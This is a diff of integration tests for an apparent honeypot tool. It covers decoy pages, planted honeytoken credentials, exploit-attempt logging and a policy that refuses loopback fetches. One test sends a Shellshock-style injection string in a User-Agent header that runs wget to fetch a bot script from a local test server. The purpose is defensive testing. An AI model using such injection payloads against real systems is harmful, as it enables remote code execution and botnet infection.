@@ -9,7 +9,7 @@ import { chromium } from 'playwright-core';
 import { startApiaryProcess, waitFor } from '../../helpers/apiary-process.js';
 import { startFileServer } from '../../helpers/file-server.js';
 import { runTool } from '../../helpers/net-tools.js';
-import { payloads } from '../../helpers/stored-events.js';
+import { payloads, storedEvents } from '../../helpers/stored-events.js';
 
 const CHROMIUM_FLAGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];
 
@@ -44,12 +44,13 @@ test('curl gets the decoy pages and trap files; honeytokens served are registere
     const proxy = await runTool('curl', ['-sS', '-p', '-x', base, 'https://proxy-judge.invalid/']);
     assert.match(proxy.stderr, /CONNECT tunnel failed, response 405/, 'Apache without mod_proxy refuses CONNECT');
     for (const p of ['/phpinfo.php', '/server-status']) assert.match((await runTool('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', `${base}${p}`])).stdout, /^200$/, p);
-    const registered = readFileSync(join(apiary.dir, 'data', 'honeytokens.jsonl'), 'utf8')
-      .trim()
-      .split('\n')
-      .map((l) => JSON.parse(l) as { value: string; service: string });
-    for (const v of [dbPassword, awsKey, gitToken]) assert.ok(registered.some((t) => t.value === v && t.service === 'http'), `${v} is registered`);
     await apiary.stop();
+    const planted = await storedEvents(apiary.dir, 'honeytoken.planted');
+    const tokens = planted.map((e) => ({ protocol: e.protocol, ...(e.payload as { kind: string; username: string; secret: string; locations: string[] }) }));
+    assert.ok(tokens.some((t) => t.kind === 'app_db' && t.secret === dbPassword && t.locations.includes('/.env') && t.locations.includes('/wp-config.php.bak')), 'the DB password is planted');
+    assert.ok(tokens.some((t) => t.kind === 'api_key' && t.username === awsKey), 'the AWS key is planted');
+    assert.ok(tokens.some((t) => t.kind === 'api_key' && t.secret === gitToken), 'the git token is planted');
+    assert.ok(tokens.every((t) => t.protocol === 'http'));
     const reqs = await payloads<{ path: string; method: string; user_agent?: string }>(apiary.dir, 'http.request');
     assert.deepEqual(
       reqs.map((r) => r.path),
@@ -68,7 +69,7 @@ test('exploits carrying wget of a bot: exploit.attempt named, and the bot lands 
   const files = await startFileServer({ '/bot.sh': bot });
   const apiary = await startApiaryProcess({
     sensor: 'http-exploits',
-    downloads: { allow_networks: ['127.0.0.0/8'], timeout_s: 10 },
+    fetch: { enabled: true, allow_cidrs: ['127.0.0.0/8'], timeout_s: 10 },
     services: { http: { listen: ['127.0.0.1:0'], site: 'apache-default' } },
   });
   try {
@@ -108,14 +109,14 @@ test('exploits carrying wget of a bot: exploit.attempt named, and the bot lands 
 
 test('the fetch policy refuses loopback targets unless allowed', async () => {
   const files = await startFileServer({ '/bot.sh': 'x' });
-  const apiary = await startApiaryProcess({ sensor: 'http-policy', services: { http: { listen: ['127.0.0.1:0'] } } });
+  const apiary = await startApiaryProcess({ sensor: 'http-policy', fetch: { enabled: true }, services: { http: { listen: ['127.0.0.1:0'] } } });
   try {
     await runTool('curl', ['-sS', '-o', '/dev/null', '-A', `() { :; }; wget http://127.0.0.1:${files.port}/bot.sh`, `http://127.0.0.1:${apiary.ports.http}/`]);
     await waitFor(async () => (await apiary.events(['--type', 'file.download'])).length >= 1);
     await apiary.stop();
     const [d] = await payloads<{ outcome: string; reason?: string }>(apiary.dir, 'file.download');
     assert.equal(d!.outcome, 'refused');
-    assert.match(String(d!.reason), /private or reserved/);
+    assert.match(String(d!.reason), /range fetching may not reach/);
     assert.deepEqual(files.hits, [], 'nothing was fetched');
   } finally {
     await apiary.stop();
